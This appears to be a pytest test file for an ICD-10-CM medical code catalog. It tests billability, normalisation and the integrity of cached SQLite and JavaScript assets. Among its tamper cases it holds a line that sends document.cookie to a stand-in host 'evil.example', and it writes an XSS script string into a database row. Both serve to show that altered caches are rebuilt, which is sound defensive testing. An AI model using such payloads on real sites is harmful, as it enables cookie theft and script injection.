"""Tests for metdocs.catalog.icd: validity, billability, normalisation and the cache."""

import sqlite3
import subprocess
import sys
import warnings
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from metdocs.catalog.icd import RELEASE, CodeSet, IcdInfo, code_set, format_info, normalise

ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture(scope="session")
def cache_dir(tmp_path_factory):
    return tmp_path_factory.mktemp("icd-cache")


@pytest.fixture(scope="session")
def cs(cache_dir):
    # The one expensive (~2.5 s) build of the run; every other test reuses it.
    return CodeSet(cache_dir)


@pytest.fixture(scope="session")
def cm(cs):
    # Already imported by the build above, so this is free.
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        import simple_icd_10_cm
    return simple_icd_10_cm


BILLABLE = ["M62.81", "R26.81", "Z91.81", "G20.A1", "M54.50", "Z96.651", "I69.351", "E11.42"]


@pytest.mark.parametrize("code", BILLABLE)
def test_billable_codes(cs, cm, code):
    info = cs.lookup(code)
    assert info == IcdInfo(code, True, True, cm.get_description(code), ())


def test_title_spot_checks(cs):
    assert cs.lookup("M62.81").title == "Muscle weakness (generalized)"
    assert cs.lookup("Z91.81").title == "History of falling"


@pytest.mark.parametrize("code, children", [
    ("M54.5", ("M54.50", "M54.51", "M54.59")),
    ("G20", ("G20.A1", "G20.A2", "G20.B1", "G20.B2", "G20.C")),
    ("G35", ("G35.A", "G35.B0", "G35.B1", "G35.B2", "G35.C0", "G35.C1", "G35.C2", "G35.D")),
])
def test_headers_are_valid_not_billable(cs, cm, code, children):
    info = cs.lookup(code)
    assert info.valid and not info.billable
    assert info.title == cm.get_description(code)
    assert info.children == children


@pytest.mark.parametrize("code", ["S72", "T36.0X1", "M17"])
def test_children_are_all_leaf_descendants(cs, cm, code):
    expected = sorted(c for c in set(cm.get_descendants(code)) if cm.is_leaf(c))
    assert list(cs.lookup(code).children) == expected


@pytest.mark.parametrize("code", ["XYZ", "M62.810", "A00-A09", "1", "", "G20-G26"])
def test_invalid(cs, code):
    info = cs.lookup(code)
    assert not info.valid and not info.billable
    assert info.title is None and info.children == ()


@pytest.mark.parametrize("raw, expected", [
    (" m62.81 ", "M62.81"), ("M6281", "M62.81"), ("m54 .5", "M54.5"),
    ("g20", "G20"), ("z96651", "Z96.651"), ("a00-a09", "A00-A09"),
])
def test_normalise(raw, expected):
    assert normalise(raw) == expected


def test_lookup_normalises(cs):
    assert cs.lookup(" m6281 ") == cs.lookup("M62.81")
    assert [i.code for i in cs.lookup_many(["m54 .5", "XYZ", "M6281"])] == ["M54.5", "XYZ", "M62.81"]


@given(st.text())
def test_normalise_is_idempotent(s):
    assert normalise(normalise(s)) == normalise(s)


def test_to_json(cs):
    assert cs.lookup("M54.5").to_json() == {
        "code": "M54.5", "valid": True, "billable": False, "title": "Low back pain",
        "children": ["M54.50", "M54.51", "M54.59"]}


def test_format_info(cs):
    assert format_info(cs.lookup("M54.5")) == (
        "M54.5  valid, NOT billable — Low back pain\n"
        "  use a billable code instead: M54.50, M54.51, M54.59")
    assert format_info(cs.lookup("M54.50")) == "M54.50  billable — Low back pain, unspecified"
    assert format_info(cs.lookup("xyz")) == "XYZ  not an ICD-10-CM code (FY2026 release 2026-04)"
    assert "more)" in format_info(cs.lookup("S72"))  # long lists are shortened


def test_cache_file_named_by_release(cs, cache_dir):
    assert RELEASE == "2026-04"
    assert cs.path == cache_dir / "icd10cm-2026-04.sqlite"
    assert cs.path.is_file()
    # no temp files left; the digest recorded when the file was made, checked at every open
    assert sorted(p.name for p in cache_dir.iterdir() if not p.name.startswith("icd10cm-2026-04.web")) == [
        cs.path.name, cs.path.name + ".digest"]


def test_warm_cache_does_not_import_package(cs, cache_dir):
    script = (
        "import sys; from pathlib import Path; from metdocs.catalog.icd import CodeSet\n"
        f"info = CodeSet(Path({str(cache_dir)!r})).lookup('G20')\n"
        "assert info.children[0] == 'G20.A1', info\n"
        "assert 'simple_icd_10_cm' not in sys.modules\n")
    subprocess.run([sys.executable, "-W", "error", "-c", script], cwd=ROOT, check=True, timeout=30)


@pytest.mark.parametrize("content", [b"this is not a database" * 100, b""])
def test_corrupt_cache_is_rebuilt(cs, cm, tmp_path, content):
    path = tmp_path / cs.path.name
    path.write_bytes(content)
    assert CodeSet(tmp_path).lookup("M62.81").billable
    with sqlite3.connect(path) as conn:
        assert conn.execute("SELECT value FROM meta").fetchone() == (RELEASE,)


def test_unwritable_cache_dir_falls_back_to_memory(cs, cm, tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("x")  # a file where a folder is needed: mkdir fails even as root
    assert CodeSet(blocker / "sub").lookup("G20.A1").billable


def test_code_set_is_memoised(cs, cache_dir):
    assert code_set(cache_dir) is code_set(cache_dir)
    assert code_set(cache_dir).lookup("R26.81").billable


def test_web_asset_holds_every_code_and_a_leaf_is_a_code_no_other_extends(cs):
    """The web forms' code set (forms.js) tells billable codes by one rule: nothing extends them."""
    import json
    name, script = cs.web_asset()
    assert name == f"icd10cm-{RELEASE}.js"
    text = script.decode()
    data = json.loads(text[text.index("= ") + 2:].rstrip().rstrip(";"))
    assert data["release"] == RELEASE and data["fy"] == "FY2026"
    codes = []
    for line in data["codes"].split("\n"):
        cat, rest = line.split(":")
        suffixes = rest.split(",")
        assert suffixes == sorted(suffixes), cat
        codes += [cat + s for s in suffixes]
    rows = dict(cs._conn.execute("SELECT replace(code, '.', ''), leaf FROM codes"))
    assert set(codes) == set(rows) and len(codes) == len(rows)
    codes.sort()
    for i, code in enumerate(codes):
        extended = i + 1 < len(codes) and codes[i + 1].startswith(code)
        assert rows[code] == (not extended), code


def _own_cache(tmp_path, cache_dir) -> Path:
    import shutil
    mine = tmp_path / "cache"
    mine.mkdir()
    for name in (f"icd10cm-{RELEASE}.sqlite", f"icd10cm-{RELEASE}.sqlite.digest"):
        shutil.copy(cache_dir / name, mine)
    return mine


def test_web_asset_is_kept_next_to_the_cache_and_made_again_when_missing(tmp_path, cs, cache_dir):
    from metdocs.files.cache import unseal
    mine = _own_cache(tmp_path, cache_dir)
    fresh = CodeSet(mine).web_asset()
    kept = list(mine.glob(f"icd10cm-{RELEASE}.web*"))
    assert len(kept) == 1 and unseal(kept[0].read_bytes()) == fresh[1]
    assert CodeSet(mine).web_asset() == fresh  # read back
    kept[0].unlink()
    assert CodeSet(mine).web_asset() == fresh and unseal(kept[0].read_bytes()) == fresh[1]
    assert not list(mine.glob(".icd10cm-*")), "no temporary file left behind"


TAMPERED = {
    "a script appended": lambda b: b + b"\nfetch('https://evil.example/?'+document.cookie);\n",
    "cut short": lambda b: b[: len(b) // 2],
    "emptied": lambda b: b"",
    "replaced by a stale copy": lambda b: b"/* stale */",
    "a byte changed": lambda b: b[:-40] + bytes([b[-40] ^ 1]) + b[-39:],
    "the unsealed script alone": lambda b: b[b.index(b"\n") + 1:],
}


@pytest.mark.parametrize("how", sorted(TAMPERED))
def test_a_web_asset_not_as_it_was_made_is_made_again(tmp_path, cs, cache_dir, how):
    """The cached code set is published as a script: bytes that are not the ones made (and
    sealed with their digest) are never served, whatever was done to them."""
    mine = _own_cache(tmp_path, cache_dir)
    fresh = CodeSet(mine).web_asset()
    kept, = mine.glob(f"icd10cm-{RELEASE}.web*")
    kept.write_bytes(TAMPERED[how](kept.read_bytes()))
    assert CodeSet(mine).web_asset() == fresh
    assert CodeSet(mine).web_asset()[1] == fresh[1] and b"evil" not in kept.read_bytes()


@pytest.mark.parametrize("how", ["a row changed", "its digest changed"])
def test_a_sqlite_cache_not_as_it_was_made_is_made_again(tmp_path, cache_dir, cm, how):
    mine = _own_cache(tmp_path, cache_dir)
    path = mine / f"icd10cm-{RELEASE}.sqlite"
    if how == "a row changed":
        with sqlite3.connect(path) as conn:
            conn.execute("UPDATE codes SET title = '<script>alert(1)</script>' WHERE code = 'M62.81'")
    else:
        (mine / f"icd10cm-{RELEASE}.sqlite.digest").write_text("0" * 64 + "\n")
    assert CodeSet(mine).lookup("M62.81").title == "Muscle weakness (generalized)"


@pytest.mark.parametrize("how", ["a script appended", "cut short"])
def test_the_site_and_the_forms_zip_get_the_code_set_as_made_whatever_the_cache_holds(tmp_path, cs, cache_dir, how,
                                                                                     shipped_forms, icd_catalog):
    """The issue's case end to end: the cached copy is published into forms/ and into
    metdocs-forms.zip; tampered with, it is made again before either gets it."""
    import io
    import zipfile
    from metdocs.forms.sitefiles import ZIP_NAME, form_files
    mine = _own_cache(tmp_path, cache_dir)
    name, fresh = CodeSet(mine).web_asset()
    kept, = mine.glob(f"icd10cm-{RELEASE}.web*")
    kept.write_bytes(TAMPERED[how](kept.read_bytes()))
    files = form_files(list(shipped_forms.values()), icd_catalog, icd=CodeSet(mine), assets=ROOT / "site_src" / "assets")
    assert files[f"forms/{name}"] == fresh
    with zipfile.ZipFile(io.BytesIO(files[f"forms/{ZIP_NAME}"])) as z:
        assert z.read(name) == fresh
